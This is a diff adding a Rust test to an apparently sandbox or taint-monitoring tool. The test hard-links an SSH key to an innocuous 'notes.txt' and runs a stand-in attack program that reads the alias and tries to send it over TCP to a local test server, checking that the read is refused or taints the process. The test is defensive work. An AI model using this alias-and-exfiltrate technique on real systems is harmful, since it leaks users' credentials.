@@ -677,3 +677,46 @@ fn a_directory_too_large_to_list_is_not_moved_unread() {
     assert!(stdout(&o).contains("rename: errno=18"), "{}", show(&o));
     assert!(big.join(".env").exists() && !f.ws.join("moved").exists());
 }
+
+/// A hard link made before the session (outside the sandbox's reach) is the same
+/// object as the secret: the monitor knows it by identity, so reading it under the
+/// other name is decided as reading the secret — refused where the secret may not
+/// be read, tainting where it may.
+#[test]
+fn a_secret_hard_linked_before_the_session_is_still_the_secret() {
+    // ~/.ssh outside the workspace: the profile may not read it, nor its alias.
+    let f = Fixture::new("name-prelink").with_attack();
+    std::fs::hard_link(&f.secret, f.ws.join("notes.txt")).unwrap();
+    let o = f.sh("cat ok.txt; cat notes.txt; echo rc=$?");
+    assert!(stdout(&o).contains("ordinary workspace file"), "{}", show(&o));
+    assert!(
+        stdout(&o).contains("rc=1") && !stdout(&o).contains("TOP-SECRET"),
+        "the alias was read\n{}",
+        show(&o)
+    );
+    // HOME inside the workspace: reading ~/.ssh is allowed and taints; so does
+    // reading its alias.
+    let ip = "127.77.12.42";
+    let server = Tcp::new(ip, 443);
+    let home = f.ws.join("h");
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::write(home.join(".ssh/id_test"), SECRET).unwrap();
+    std::fs::remove_file(f.ws.join("notes.txt")).unwrap();
+    std::fs::hard_link(home.join(".ssh/id_test"), f.ws.join("notes.txt")).unwrap();
+    let mut c = f.command(&[], &["./attack", "hold", "tcp", ip, "443", "notes.txt"]);
+    c.env("HOME", &home);
+    let o = run_with_deadline(c, Duration::from_secs(120));
+    let out = stdout(&o);
+    assert!(
+        out.contains("write before: ok=7"),
+        "the channel works\n{}",
+        show(&o)
+    );
+    assert!(out.contains("open secret: ok="), "{}", show(&o));
+    assert!(
+        out.contains("write after: errno=32"),
+        "reading the alias did not taint\n{}",
+        show(&o)
+    );
+    assert_eq!(server.received(), "before\n");
+}
